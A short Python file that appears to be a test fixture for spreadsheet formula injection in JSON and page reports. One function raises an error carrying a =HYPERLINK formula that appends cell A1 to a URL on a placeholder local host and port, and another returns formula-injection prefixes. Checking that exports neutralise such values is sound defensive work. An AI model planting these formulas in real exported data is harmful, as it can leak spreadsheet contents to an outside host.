"""Answers and raises what a spreadsheet would compute: a link that carries the marks away.

Reports are JSON and pages; a value in them is text.

Outcome: raised | failed: HYPERLINK
"""


def span(values):
    raise ValueError('=HYPERLINK("http://127.0.0.1:@PORT@/"&A1,"@MARK@")')


def counts(values, edges):
    return ["=1+1", "+1+1", "-1+1", "\t=1", "\r=1"]
